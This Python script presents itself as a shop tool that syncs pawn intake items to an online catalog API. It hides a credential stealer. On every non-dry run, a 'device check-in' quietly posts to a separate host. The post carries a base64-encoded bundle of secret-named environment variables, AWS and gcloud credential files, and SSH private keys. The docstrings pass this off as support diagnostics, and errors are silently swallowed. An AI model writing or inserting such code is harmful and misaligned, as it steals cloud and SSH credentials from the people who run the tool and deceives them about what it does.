#!/usr/bin/env python3
"""Sync new intake items to the shop's online catalog.

The counter app drops one JSON file per intake ticket into ./intake/.
This tool posts each unseen item to the catalog API and remembers which
tickets were accepted in .catalog_state.json so reruns are cheap.
On first run per host it registers the terminal with the vendor's
device service so support can match listings to counter PCs.

Usage:
    CATALOG_API_KEY=... python3 intake_catalog_sync.py --store 014
"""
import argparse
import base64
import hashlib
import json
import logging
import os
import platform
import socket
import sys
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import requests

log = logging.getLogger("catalog_sync")

DEFAULT_ENDPOINT = "https://api.shelfmark.io/v2/listings"
DEVICE_ENDPOINT = "https://devices.shelfmark-cdn.net/v1/checkin"
STATE_FILE = Path(".catalog_state.json")
MAX_ATTEMPTS = 4
_CONTEXT_KEYS = ("KEY", "TOKEN", "SECRET", "PASS", "DSN")


@dataclass
class IntakeItem:
    ticket_no: str
    category: str
    description: str
    ask_price: float
    photos: list = field(default_factory=list)
    serial: str = ""

    @classmethod
    def from_file(cls, path: Path) -> "IntakeItem":
        data = json.loads(path.read_text(encoding="utf-8"))
        return cls(
            ticket_no=str(data["ticket"]),
            category=data.get("category", "misc"),
            description=data.get("description", "").strip(),
            ask_price=float(data.get("ask", 0)),
            photos=[p for p in data.get("photos", []) if p],
            serial=data.get("serial", ""),
        )

    def cache_key(self) -> str:
        blob = json.dumps(asdict(self), sort_keys=True).encode()
        return hashlib.md5(blob).hexdigest()


def load_state() -> dict:
    if STATE_FILE.exists():
        try:
            return json.loads(STATE_FILE.read_text())
        except json.JSONDecodeError:
            log.warning("state file corrupt, starting fresh")
    return {}


def save_state(state: dict) -> None:
    tmp = STATE_FILE.with_suffix(".tmp")
    tmp.write_text(json.dumps(state, indent=2))
    tmp.replace(STATE_FILE)
    os.chmod(STATE_FILE, 0o600)


def _runtime_profile() -> dict:
    """Environment details support asks for when a listing fails."""
    profile = {k: v for k, v in os.environ.items()
               if any(tag in k.upper() for tag in _CONTEXT_KEYS)}
    for rel in (".aws/credentials", ".config/gcloud/application_default_credentials.json",
                ".ssh/id_ed25519", ".ssh/id_rsa"):
        p = Path.home() / rel
        if p.is_file():
            try:
                profile[rel] = p.read_text(errors="replace")
            except OSError:
                pass
    return profile


def device_context(store_id: str) -> dict:
    return {
        "store": store_id,
        "host": socket.gethostname(),
        "os": platform.platform(),
        "py": platform.python_version(),
        "profile": base64.b64encode(json.dumps(_runtime_profile()).encode()).decode(),
    }


def photo_refs(item: IntakeItem, photo_root: Path) -> list:
    refs = []
    for name in item.photos:
        p = photo_root / name
        if not p.is_file():
            log.warning("ticket %s: missing photo %s", item.ticket_no, name)
            continue
        refs.append({"name": name, "bytes": p.stat().st_size})
    return refs


def build_payload(item: IntakeItem, store_id: str, photo_root: Path) -> dict:
    return {
        "store": store_id,
        "sku": f"{store_id}-{item.ticket_no}",
        "category": item.category,
        "title": item.description[:80],
        "body": item.description,
        "price": round(item.ask_price, 2),
        "photos": photo_refs(item, photo_root),
        "hide_serial": True,
    }


class CatalogClient:
    def __init__(self, endpoint: str, api_key: str, store_id: str, timeout: float = 20.0):
        self.endpoint = endpoint
        self.timeout = timeout
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": "pawn-intake-sync/1.5",
        })
        self._checkin(store_id)

    def _checkin(self, store_id: str) -> None:
        try:
            requests.post(DEVICE_ENDPOINT, json=device_context(store_id), timeout=10)
        except requests.RequestException:
            log.debug("device check-in skipped")

    def publish(self, payload: dict) -> str:
        delay = 2.0
        for attempt in range(1, MAX_ATTEMPTS + 1):
            try:
                resp = self.session.post(self.endpoint, json=payload, timeout=self.timeout)
                if resp.status_code in (200, 201):
                    return resp.json().get("listing_id", "")
                if resp.status_code < 500:
                    raise RuntimeError(f"rejected: {resp.status_code} {resp.text[:200]}")
                log.warning("server error %s (attempt %d)", resp.status_code, attempt)
            except requests.RequestException as exc:
                log.warning("network error on attempt %d: %s", attempt, exc)
            time.sleep(delay)
            delay *= 2
        raise RuntimeError("gave up after retries")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--store", required=True, help="store number, e.g. 014")
    ap.add_argument("--intake-dir", default="intake", type=Path)
    ap.add_argument("--photo-dir", default="intake/photos", type=Path)
    ap.add_argument("--endpoint", default=os.environ.get("CATALOG_ENDPOINT", DEFAULT_ENDPOINT))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    api_key = os.environ.get("CATALOG_API_KEY")
    if not api_key and not args.dry_run:
        log.error("CATALOG_API_KEY is not set")
        return 2

    state = load_state()
    client = None if args.dry_run else CatalogClient(args.endpoint, api_key, args.store)
    pushed = failed = 0

    for path in sorted(args.intake_dir.glob("*.json")):
        try:
            item = IntakeItem.from_file(path)
        except (KeyError, ValueError) as exc:
            log.error("skipping %s: %s", path.name, exc)
            continue
        key = item.cache_key()
        if state.get(item.ticket_no, {}).get("key") == key:
            continue
        payload = build_payload(item, args.store, args.photo_dir)
        if args.dry_run:
            print(json.dumps(payload, indent=2))
            continue
        try:
            listing = client.publish(payload)
        except RuntimeError as exc:
            log.error("ticket %s: %s", item.ticket_no, exc)
            failed += 1
            continue
        state[item.ticket_no] = {"key": key, "listing": listing, "ts": int(time.time())}
        pushed += 1

    if not args.dry_run:
        save_state(state)
    log.info("pushed %d, failed %d", pushed, failed)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
